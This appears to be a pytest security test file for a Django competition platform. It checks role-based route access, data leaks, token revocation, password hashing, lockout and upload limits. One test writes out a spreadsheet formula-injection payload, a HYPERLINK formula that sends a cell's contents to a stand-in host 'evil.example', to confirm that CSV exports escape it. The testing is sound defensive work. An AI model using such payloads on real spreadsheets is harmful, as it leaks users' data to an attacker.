"""Every route, every role: who gets what, and what never leaks.

The test enumerates the URL resolver (so a new route fails here until it is
given an access rule below) and requests each route as: anonymous, a user
with no team, a member of team A, a member of team B, and the organizer.
For everyone but the organizer, no response may contain: another team's
submission id, file name or description; a server path; the hidden
reference's content; or any score of the blind phase (before release).
"""
from __future__ import annotations

import csv
import io
import re
import uuid

import pytest
from django.conf import settings
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone

from shareval.platform.accounts.models import ApiToken
from shareval.platform.submissions import queue, service

from .factories import Upload, run_with_accuracy, shows_number

ALL = {"anon", "outsider", "alice", "bob", "org"}
USERS = ALL - {"anon"}
MEMBERS = {"alice", "bob"}
ORG = {"org"}

# route name -> (roles allowed to GET, roles allowed to POST). The submission
# routes address bob's (team B) blind-phase run.
RULES = {
    "home": (ALL, ALL), "login": (ALL, ALL), "register": (ALL, ALL),
    "logout": (set(), ALL),
    "tokens": (USERS, USERS), "revoke-token": (set(), {"bob"}),
    "new-competition": (ORG, ORG),
    "competition": (ALL, ALL), "team": (USERS, USERS),
    "submit": (MEMBERS | ORG, MEMBERS | ORG), "my-submissions": (USERS, USERS),
    "leaderboard": (ALL, ALL), "public-file": (ALL, ALL),
    "organize": (ORG, ORG), "release": (set(), ORG), "rescore": (set(), ORG),
    "review-team": (set(), ORG),
    "export-csv": (ORG, ORG),
    "submission": ({"bob", "org"}, {"bob", "org"}), "submission-plot": (set(), set()),
    "submission-action": (set(), {"bob", "org"}),
    "api-competitions": (ALL, set()), "api-competition": (ALL, set()),
    "api-leaderboard": (ALL, set()), "api-release": (set(), ORG), "api-rescore": (set(), ORG),
    "api-export-csv": (ORG, set()),
    "api-submissions": (USERS, set()),         # POST is an upload: tested elsewhere
    "api-submission": ({"bob", "org"}, set()),
    "api-submission-primary": (set(), {"bob", "org"}),
    "api-submission-cancel": (set(), {"bob", "org"}),
    "api-tokens": (USERS, USERS), "api-token": (set(), set()),
    # judging: dave (the outsider) is the scene campaign's only judge
    # /work/ (and its older address /judging/): everything a person has to do
    "work": (USERS, set()), "my-campaigns": (USERS, set()),
    "judge": ({"outsider"}, {"outsider"}),      # POST: "Start judging"
    "campaigns": (ORG, ORG), "campaign": (ORG, ORG), "adjudicate": (ORG, ORG),
    "adjudicate-item": (set(), ORG), "campaign-export": (ORG, ORG),
    "campaign-item": (ORG, set()),              # one item, its answers and known answer
    # code submissions: the scene gives bob's team a code submission with the id of
    # its blind run (so one ``s`` addresses both); its dataset takes no code (any
    # more), so an organizer's re-run is refused with 400
    "submit-code": (MEMBERS | ORG, MEMBERS | ORG),
    "code-submission": ({"bob", "org"}, {"bob", "org"}), "code-rerun": (set(), ORG),
    "api-code-submissions": (set(), set()),    # POST is an upload: tested elsewhere
    "api-code": ({"bob", "org"}, set()), "api-code-rerun": (set(), ORG),
    # RCC phase-2 studies: none exists in the scene (404 for all; roles with a real
    # study are checked in annotation/test_annotation.py)
    "annotation-home": (USERS, set()),
    **{f"annotation-{n}": (set(), set()) for n in (
        "study", "work", "capture", "related", "review", "rank", "final", "results", "audit")},
    # the annotation workbench: its list for every user (an organizer's POST makes a
    # project); no project exists in the scene (404 for all; roles with real projects
    # are checked in workbench/test_pages.py and test_review_fixes.py)
    "workbench-home": (USERS, ORG),
    **{f"workbench-{n}": (set(), set()) for n in (
        "project", "unit", "state", "ops", "entries", "curate", "codebook", "export", "trail")},
    # access: profile, password reset, registration, pages, data, organizer access
    "profile": (USERS, USERS), "password_reset": (ALL, ALL), "password_reset_done": (ALL, set()),
    "password_reset_confirm": (ALL, ALL), "password_reset_complete": (ALL, set()),
    # a verification link with a wrong token is refused for everyone (404)
    "send-verification": (set(), USERS), "verify-address": (set(), set()),
    "register-competition": (ALL, USERS), "page": (ALL, set()), "data": (ALL, USERS),
    "data-file": (ALL, set()), "organize-access": (ORG, set()),
    "decide-registration": (set(), ORG), "invite": (set(), ORG), "announce": (set(), ORG),
    "phase-teams": (set(), ORG), "downloads-csv": (ORG, set()),
    # run records are organizers-only; the run actions are addressed with
    # action=cancel, which is not one of theirs (each action: submissions/test_runs.py)
    "factsheet-table": (ORG, ORG), "bulk-download": (ORG, ORG),
    "export-competition": (ORG, ORG),
    "run-action": (set(), set()), "api-run-action": (set(), set()),
    "campaign-late": (set(), ORG), "campaign-crowd": (set(), ORG),
    # the scene's items are not publications: no full text for anyone
    "judge-text": (set(), set()),
    # the organizers' settings forms (each form: competitions/test_settings_forms.py)
    "organize-settings": (ORG, set()), "new-page": (ORG, ORG), "edit-page": (ORG, ORG),
    "delete-page": (set(), ORG),
    **{f"settings-{n}": (set(), ORG) for n in (
        "visibility", "secret-link", "registration", "teams", "downloads", "data", "catalog")},
    # invitations: a link with a wrong token is refused for everyone (404);
    # the REST endpoints of access and teams follow the pages' rules
    "join": (set(), set()),
    "api-registrations": (ORG, set()), "api-registration": (set(), ORG),
    "api-announcements": (ALL, set()), "api-data": (ALL, set()),
    "api-team": (MEMBERS, set()), "api-team-lead": (set(), MEMBERS),
    "api-decide-lead": (set(), ORG),
    # official tables: the page says "not released" to everyone but organizers (the
    # scene's eval phase is blind); its files are the organizers' until release
    "official": (ALL, set()), "official-file": (ORG, set()),
    # the organizers' report: the page and Build (POST) for organizers; no report is
    # built in the scene, so its files are 404 for all (reports/test_report.py builds one)
    "report-home": (ORG, ORG), "report": (ORG, ORG), "report-file": (set(), set()),
    # the E2E judging loop's organizer actions (POST only; each: judging/test_judging_e2e.py)
    "campaign-build-e2e": (set(), ORG), "campaign-publish-e2e": (set(), ORG),
}
REFUSED = {401, 403, 404, 405}
OVERRIDES = {"public-file": {"p": "dev", "d": "dev"},       # items.txt is released with dev
             "data-file": {"name": "corpus.txt"},
             "official-file": {"s": "eval", "fmt": "csv"},
             "report": {"key": "all-phases--primary"},
             "report-file": {"key": "all-phases--primary", "path": "index.html"}}


def routes():
    """(name, pattern string) of every route, admin included."""
    out = []

    def walk(patterns, prefix, ns):
        for p in patterns:
            if isinstance(p, URLResolver):
                walk(p.url_patterns, prefix + str(p.pattern), p.namespace or ns)
            elif isinstance(p, URLPattern):
                out.append(((f"{ns}:" if ns else "") + (p.name or ""), prefix + str(p.pattern)))
    walk(get_resolver().url_patterns, "", None)
    return out


def fill(pattern: str, values: dict) -> str:
    path = re.sub(r"<(?:\w+:)?(\w+)>", lambda m: str(values[m.group(1)]), pattern)
    path = path.replace("^", "").replace("$", "").replace("\\Z", "")
    path = re.sub(r"\(\?P<(\w+)>[^)]*\)", lambda m: str(values.get(m.group(1), "1")), path)
    return "/" + path.lstrip("/")


@pytest.fixture
def scene(world):
    w = world
    users, teams, ds = w["users"], w["teams"], w["ds"]
    outsider = users["dave"]
    alice_eval = service.submit(users["alice"], teams["Team A"], ds["eval"],
                                Upload("alice-eval-marker.tsv", run_with_accuracy(17)),
                                description="ALICE-DESC-MARKER")
    bob_eval = service.submit(users["bob"], teams["Team B"], ds["eval"],
                              Upload("bob-eval-marker.tsv", run_with_accuracy(13)),
                              description="BOB-DESC-MARKER")
    alice_dev = service.submit(users["alice"], teams["Team A"], ds["dev"],
                               Upload("alice-dev-marker.tsv", run_with_accuracy(14)),
                               description="ALICE-DEV-MARKER")
    queue.drain()
    from shareval.platform.coderuns.models import CodeSubmission
    CodeSubmission.objects.create(id=bob_eval.pk, team=teams["Team B"], dataset=ds["eval"],
                                  user=users["bob"], stored_name="x.tgz",
                                  original_name=bob_eval.original_name,
                                  description=bob_eval.description,
                                  manifest={"command": ["python", "x", "{output}"]})
    bob_token, _ = ApiToken.issue(users["bob"], "bob-token-marker")
    from shareval.platform.judging.build import build_from_runs
    from shareval.platform.judging.models import Campaign
    camp = Campaign.objects.create(dataset=ds["eval"], slug="judged", title="Judged",
                                   design=Campaign.CHAIN, judges_per_item=1)
    camp.judges.set([outsider])
    build_from_runs(camp, n=5)
    blind_values = []
    for s in (alice_eval, bob_eval):
        m = s.current_score.result["metrics"]
        for k in ("f1_macro", "precision_macro", "recall_macro"):
            blind_values += [repr(m[k]), f"{m[k]:.4f}"]
    ref_text = ds["eval"].reference_file.read_text()
    # access: an organizer page, a data file and a registration to address
    from shareval.platform.competitions.models.access import DataFile, Page, Registration
    Page.objects.create(competition=w["comp"], slug="rules", title="Rules", body="Be *nice*.")
    data = settings.PRIVATE_DIR / w["comp"].slug / "data" / "corpus.txt"
    data.parent.mkdir(parents=True, exist_ok=True)
    data.write_text("corpus\n")
    DataFile.objects.create(competition=w["comp"], name="corpus.txt",
                            path=f"{w['comp'].slug}/data/corpus.txt", size=7)
    reg = Registration.objects.create(competition=w["comp"], user=users["carol"])
    values = {"c": w["comp"].slug, "p": "eval", "d": "eval", "t": "labels", "s": bob_eval.pk,
              "name": "items.txt", "pk": bob_token.pk, "action": "cancel",
              "object_id": 1, "app_label": "auth", "content_type_id": 1, "url": "x", "id": 1,
              "j": camp.pk, "item": camp.items.first().pk, "kind": "judgments.csv",
              "team": w["teams"]["Team B"].pk, "page": "rules", "reg": reg.pk,
              "uidb64": "MQ", "token": "set-password",
              "study": 1, "pub": 1, "unit": 1, "fmt": "csv"}
    return {"w": w, "users": {"anon": None, "outsider": outsider, "alice": users["alice"],
                              "bob": users["bob"], "org": w["org"]},
            "values": values, "blind_values": set(blind_values), "ref_text": ref_text,
            "bob": bob_eval, "alice": [alice_eval, alice_dev]}


def leaks(body: str, role: str, scene) -> list[str]:
    found = []
    if str(settings.HOME) in body:
        found.append("server path")
    if scene["ref_text"] in body:
        found.append("reference content")
    for v in scene["blind_values"]:
        if shows_number(body, v):
            found.append(f"blind score {v}")
    others = {"alice": [scene["bob"]], "bob": scene["alice"],
              "outsider": scene["alice"] + [scene["bob"]],
              "anon": scene["alice"] + [scene["bob"]]}[role]
    for s in others:
        for marker in (str(s.pk), s.original_name, s.description):
            if marker in body:
                found.append(f"other team's {marker}")
    if role != "bob" and "bob-token-marker" in body:
        found.append("bob's token")
    return found


def test_a_score_is_found_as_a_number_but_not_inside_a_timestamp():
    assert shows_number('{"f1_macro": 0.9091}', "0.9091")
    assert shows_number("<td>0.9091</td>", "0.9091")
    assert not shows_number('"created": "2026-11-21T02:30:10.909123+00:00"', "0.9091")
    assert not shows_number("0.90912", "0.9091")
    assert shows_number("<td>0.8500</td>", "0.85") and not shows_number("0.851", "0.85")


def login_redirect(resp) -> bool:
    return resp.status_code == 302 and "login" in resp.get("Location", "")


@pytest.mark.parametrize("role", ["anon", "outsider", "alice", "bob"])
def test_every_route_for_every_role(scene, client, role):
    user = scene["users"][role]
    if user is not None:
        client.force_login(user)
    checked = 0
    for name, pattern in routes():
        if name.startswith("admin:"):
            url = fill(pattern, scene["values"])
            r = client.get(url)
            if name in ("admin:login", "admin:logout"):
                assert r.status_code in (200, 302, 405), (role, name, r.status_code)
            else:
                assert r.status_code in REFUSED or login_redirect(r), \
                    (role, name, url, r.status_code)
            checked += 1
            continue
        assert name in RULES, f"route {name} ({pattern}) has no access rule in this test"
        url = fill(pattern, {**scene["values"], **OVERRIDES.get(name, {})})
        get_ok, post_ok = RULES[name]
        for method, allowed in (("get", get_ok), ("post", post_ok)):
            if name == "logout" or (method == "post" and name in ("login", "register")):
                continue       # these change the session, not data
            r = getattr(client, method)(url)
            body = b"".join(r.streaming_content) if r.streaming else r.content
            text = body.decode("utf-8", "replace")
            if role in allowed:       # 400: allowed, but a business rule said no
                assert (r.status_code < 400 or r.status_code == 400) and \
                    not login_redirect(r), \
                    (role, method, name, url, r.status_code)
            else:
                assert r.status_code in REFUSED or login_redirect(r) or \
                    (name in ("submit", "submit-code") and r.status_code == 302), \
                    (role, method, name, url, r.status_code)
            assert not leaks(text, role, scene), (role, method, name, leaks(text, role, scene))
            checked += 1
    assert checked > 60


def test_organizer_sees_blind_scores_and_participants_do_not_after_partial_release(scene, client):
    client.force_login(scene["users"]["org"])
    bob = scene["bob"]
    r = client.get(f"/api/submissions/{bob.pk}/")
    assert r.status_code == 200 and r.json()["score"]["metrics"]
    csv_text = client.get(f"/c/{scene['w']['comp'].slug}/organize/results.csv").content.decode()
    assert any(shows_number(csv_text, v) for v in scene["blind_values"])
    assert client.post(f"/api/competitions/{scene['w']['comp'].slug}/release/eval/",
                       {"level": "top"}).status_code == 200
    client.force_login(scene["users"]["alice"])
    board = client.get(f"/api/competitions/{scene['w']['comp'].slug}/leaderboard/eval/eval/").json()
    assert board["scores"] == "shown" and board["rows"][0]["metrics"]
    mine = client.get(f"/api/submissions/{scene['alice'][0].pk}/").json()["score"]
    assert "breakdowns" not in mine and mine["detail"]


def test_hidden_leaderboard_is_404_for_participants(scene, client):
    phase = scene["w"]["ds"]["dev"].phase
    phase.leaderboard_public = False
    phase.save()
    url = f"/api/competitions/{scene['w']['comp'].slug}/leaderboard/dev/dev/"
    assert client.get(url).status_code == 404
    client.force_login(scene["users"]["alice"])
    assert client.get(url).status_code == 404
    client.force_login(scene["users"]["org"])
    assert client.get(url).status_code == 200


def test_tokens_are_hashed_and_revocable(scene, client):
    bob = scene["users"]["bob"]
    tok, key = ApiToken.issue(bob, "cli")
    assert key not in str(ApiToken.objects.filter(pk=tok.pk).values().first())
    h = {"HTTP_AUTHORIZATION": f"Token {key}"}
    assert client.get("/api/tokens/", **h).status_code == 200
    assert client.delete(f"/api/tokens/{tok.pk}/", **h).status_code == 200
    r = client.get("/api/tokens/", **h)
    assert r.status_code == 401 and "revoked" in r.json()["error"]
    assert client.get("/api/tokens/", HTTP_AUTHORIZATION="Token sv_wrong").status_code == 401


def test_passwords_hashed_with_djangos_default_and_csrf_enforced(scene):
    import importlib

    from django.test import Client
    from django.conf import global_settings
    from django.contrib.auth.hashers import check_password, make_password
    from django.test import override_settings
    prod = importlib.import_module("shareval.platform.settings")
    # the test settings use MD5 for speed; the production list is exercised here
    hashers = getattr(prod, "PASSWORD_HASHERS", global_settings.PASSWORD_HASHERS)
    assert hashers[0].rsplit(".", 1)[1] in ("PBKDF2PasswordHasher", "Argon2PasswordHasher")
    assert not any("MD5" in h or "Unsalted" in h for h in hashers)
    with override_settings(PASSWORD_HASHERS=hashers):
        encoded = make_password("correct horse")
        assert encoded.split("$", 1)[0] in ("pbkdf2_sha256", "argon2")
        assert encoded != make_password("correct horse")     # salted
        assert check_password("correct horse", encoded)
        assert not check_password("correct hors", encoded)
    assert "pass" not in scene["users"]["bob"].password
    c = Client(enforce_csrf_checks=True)
    c.force_login(scene["users"]["bob"])
    assert c.post(f"/s/{scene['bob'].pk}/cancel/").status_code == 403
    assert c.post("/api/tokens/", {"name": "x"}).status_code == 403


def test_admin_is_for_staff_only(scene, client):
    client.force_login(scene["users"]["alice"])
    assert login_redirect(client.get("/admin/"))
    client.force_login(scene["users"]["org"])
    assert client.get("/admin/").status_code == 200


def test_unknown_submission_ids_look_like_forbidden_ones(scene, client):
    client.force_login(scene["users"]["alice"])
    a = client.get(f"/api/submissions/{uuid.uuid4()}/")
    b = client.get(f"/api/submissions/{scene['bob'].pk}/")
    assert a.status_code == b.status_code == 404 and a.json() == b.json()


def _login(client, username, password, ip="127.0.0.1", path="/accounts/login/"):
    return client.post(path, {"username": username, "password": password}, REMOTE_ADDR=ip)


def test_wrong_passwords_lock_the_account_from_that_ip_until_the_cool_off(world, client):
    """Issue 20, finding 8: 50 wrong passwords, then the right one worked."""
    import datetime as dt

    from axes.models import AccessAttempt
    from django.utils import timezone
    assert settings.AXES_FAILURE_LIMIT == 5
    for _ in range(settings.AXES_FAILURE_LIMIT - 1):
        r = _login(client, "bob", "wrong-password")
        assert r.status_code == 200 and "_auth_user_id" not in client.session
    assert _login(client, "bob", "wrong-password").status_code == 429     # the 5th locks
    r = _login(client, "bob", "bob-pass-123")
    assert r.status_code == 429 and b"locked" in r.content
    assert "_auth_user_id" not in client.session
    assert _login(client, "bob", "bob-pass-123", path="/admin/login/").status_code == 429
    # the lock is for this username from this IP: others are not locked out with bob
    other = type(client)()
    assert _login(other, "alice", "alice-pass-123").status_code == 302
    assert _login(type(client)(), "bob", "bob-pass-123", ip="192.0.2.7").status_code == 302
    # API tokens are not passwords: they keep working
    _, key = ApiToken.issue(world["users"]["bob"], "t")
    assert client.get("/api/tokens/", HTTP_AUTHORIZATION=f"Token {key}").status_code == 200
    # once the cool-off has passed, the right password works again
    AccessAttempt.objects.update(attempt_time=timezone.now() - settings.AXES_COOLOFF_TIME
                                 - dt.timedelta(seconds=1))
    assert _login(client, "bob", "bob-pass-123").status_code == 302
    assert client.session["_auth_user_id"] == str(world["users"]["bob"].pk)
    assert settings.AXES_COOLOFF_TIME == dt.timedelta(minutes=15)


def test_a_token_minted_by_a_token_dies_with_its_parent(scene, client):
    bob = scene["users"]["bob"]
    root, root_key = ApiToken.issue(bob, "root")
    keys = [root_key]
    for name in ("child", "grandchild"):            # each minted with the previous key
        r = client.post("/api/tokens/", {"name": name},
                        HTTP_AUTHORIZATION=f"Token {keys[-1]}")
        assert r.status_code == 201
        keys.append(r.json()["key"])
    chain = list(ApiToken.objects.filter(user=bob, name__in=["root", "child", "grandchild"])
                 .order_by("created"))
    assert [t.parent_id for t in chain] == [None, chain[0].pk, chain[1].pk]
    sibling, sibling_key = ApiToken.issue(bob, "sibling")           # made in the browser
    client.force_login(bob)
    assert client.post(f"/accounts/tokens/{root.pk}/revoke/").status_code == 302
    client.logout()
    for key in keys:
        r = client.get("/api/tokens/", HTTP_AUTHORIZATION=f"Token {key}")
        assert r.status_code == 401, key
    assert all(t.revoked for t in ApiToken.objects.filter(pk__in=[t.pk for t in chain]))
    assert client.get("/api/tokens/", HTTP_AUTHORIZATION=f"Token {sibling_key}").status_code \
        == 200


def test_a_child_is_refused_when_only_its_parent_row_says_revoked(scene, client):
    # e.g. a child minted while the parent was being revoked: checked on every use
    bob = scene["users"]["bob"]
    parent, parent_key = ApiToken.issue(bob, "parent")
    r = client.post("/api/tokens/", {"name": "child"}, HTTP_AUTHORIZATION=f"Token {parent_key}")
    child_key = r.json()["key"]
    ApiToken.objects.filter(pk=parent.pk).update(revoked=timezone.now())
    assert ApiToken.objects.get(name="child", user=bob).revoked is None
    r = client.get("/api/submissions/", HTTP_AUTHORIZATION=f"Token {child_key}")
    assert r.status_code == 401 and "revoked" in r.json()["error"]


def test_revoking_over_the_api_revokes_descendants(scene, client):
    bob = scene["users"]["bob"]
    parent, parent_key = ApiToken.issue(bob, "p")
    child_key = client.post("/api/tokens/", {"name": "c"},
                            HTTP_AUTHORIZATION=f"Token {parent_key}").json()["key"]
    client.force_login(bob)
    assert client.delete(f"/api/tokens/{parent.pk}/").status_code == 200
    assert ApiToken.objects.get(name="c", user=bob).revoked is not None
    client.logout()
    assert client.get("/api/tokens/", HTTP_AUTHORIZATION=f"Token {child_key}").status_code == 401


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_export_escapes_formulas_in_team_and_file_names(world, client, start):
    from shareval.platform.competitions.models import Membership, Team
    evil = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    users = world["users"]
    team = Team.objects.create(competition=world["comp"], name=evil, lead=users["dave"])
    Membership.objects.create(team=team, user=users["dave"], status=Membership.APPROVED)
    service.submit(users["dave"], team, world["ds"]["dev"],
                   Upload(f"{start}cmd.tsv", run_with_accuracy(12)))
    queue.drain()
    client.force_login(world["org"])
    for url in (f"/c/{world['comp'].slug}/organize/results.csv",
                f"/api/competitions/{world['comp'].slug}/results.csv"):
        text = client.get(url).content.decode()
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        mine = [r for r in rows if r["team"].endswith(evil[1:])]
        assert len(mine) == 1
        assert mine[0]["team"] == "'" + evil and mine[0]["file"] == f"'{start}cmd.tsv"
        for r in rows:                       # no text cell anywhere starts a formula
            assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in r.values()), r
        assert float(mine[0]["accuracy"]) == pytest.approx(0.6)


def test_formula_escape_leaves_numbers_and_plain_text_alone_and_round_trips():
    from shareval.formats.spreadsheet import escape_formula, unescape_formula
    assert escape_formula(-0.25) == -0.25 and escape_formula(0) == 0
    assert escape_formula(None) is None
    assert escape_formula("Team A") == "Team A" and escape_formula("a=b") == "a=b"
    assert escape_formula("-1") == "'-1" and escape_formula("@SUM(A1)") == "'@SUM(A1)"
    for text in ("=x", "+x", "-x", "@x", "\tx", "\rx", "plain", "'quoted", "'=x", ""):
        assert unescape_formula(escape_formula(text)) == text
    assert unescape_formula("'plain") == "'plain"            # only the escape is removed


def test_csv_rows_stay_whole_with_line_breaks_in_names(world):
    from shareval.platform.leaderboards.export import results_csv
    users = world["users"]
    for name in ("a\rb.tsv", "c\nd.tsv", "e\r\nf.tsv"):
        service.submit(users["alice"], world["teams"]["Team A"], world["ds"]["dev"],
                       Upload(name, run_with_accuracy(12)))
    queue.drain()
    rows = list(csv.DictReader(io.StringIO(results_csv(world["comp"]), newline="")))
    assert sorted(r["file"] for r in rows if r["team"] == "Team A") == \
        ["a\rb.tsv", "c\nd.tsv", "e\r\nf.tsv"]
    assert all(r["submission"] for r in rows)


def test_body_limit_middleware_refuses_large_declared_bodies(world, client, settings):
    # issue 20.5 for WSGI servers other than waitress: refused before the body is read
    settings.MAX_UPLOAD_BYTES = 2 ** 20
    r = client.generic("POST", "/api/competitions/", b"", CONTENT_LENGTH=str(6 * 2 ** 20))
    assert r.status_code == 413 and "too large" in r.json()["error"]
    r = client.generic("POST", "/api/submissions/", b"", CONTENT_LENGTH=str(3 * 2 ** 20))
    assert r.status_code == 413
    r = client.generic("POST", "/api/submissions/", b"", CONTENT_LENGTH=str(2 ** 20))
    assert r.status_code != 413
    from shareval.platform.bodylimit import UPLOAD_ROUTES
    from django.urls import get_resolver
    names = {p.name for p in get_resolver().url_patterns if hasattr(p, "name")}
    assert UPLOAD_ROUTES <= names                   # a renamed route must not slip out


def test_code_bundles_take_the_upload_limit_and_a_refusal_names_it(world, client, settings):
    from shareval.platform.bodylimit import MARGIN, body_limit
    settings.MAX_UPLOAD_BYTES = 2 ** 20
    page = f"/c/{world['comp'].slug}/code/"
    for path in ("/api/code/", page):
        assert body_limit("POST", path) == 2 ** 20 + MARGIN, path
    r = client.generic("POST", "/api/code/", b"", CONTENT_LENGTH=str(6 * 2 ** 20))
    assert r.status_code == 413 and r.json()["limit_mb"] == 1 and r.json()["size_mb"] == 6
    r = client.generic("POST", page, b"", CONTENT_LENGTH=str(6 * 2 ** 20))
    text = r.content.decode()
    assert r.status_code == 413 and r["Content-Type"].startswith("text/html")
    assert '<h1 id="error-title">Too large to upload (413)</h1>' in text
    assert "at most <b>1 MB</b>; this upload was 6.0 MB" in text
    nonce = re.search(r"style-src 'self' 'nonce-([^']+)'", r["Content-Security-Policy"]).group(1)
    assert f'<style nonce="{nonce}">' in text and "<header>" in text     # the site's page


def test_the_validation_child_gets_no_server_secrets(monkeypatch, tmp_path):
    from shareval.platform.submissions import isolate
    seen: dict = {}
    real = isolate.subprocess.Popen

    def spy(*a, **k):
        seen.update(k["env"])
        return real(*a, **k)
    monkeypatch.setattr(isolate.subprocess, "Popen", spy)
    monkeypatch.setenv("SHAREVAL_SECRET_KEY", "s3cret")
    monkeypatch.setenv("SHAREVAL_DATABASE_URL", "postgres://u:pw@h/db")
    f = tmp_path / "run.tsv"
    f.write_text(run_with_accuracy(10))
    v = isolate.validate("classification", str(f), None, isolate.Limits())
    assert not v.problems and not v.limit and not v.crash, v
    assert seen and not [k for k in seen if k.startswith("SHAREVAL_")]


def test_a_nul_character_in_any_path_is_a_404_never_a_database_error(world, client):
    """PostgreSQL refuses NUL in text parameters: every route that looks a path part up
    (a file, an invitation token, a page) must answer 404, not 500."""
    for path in ("/c/tiny/files/dev/dev/items.txt%00", "/c/tiny/join/token%00/",
                 "/c/tiny/pages/rules%00/", "/c/tiny/data/corpus.txt%00",
                 "/c/tiny/results/eval%00/"):
        assert client.get(path).status_code == 404, path
        client.force_login(world["org"])
        assert client.get(path).status_code == 404, path
        client.logout()
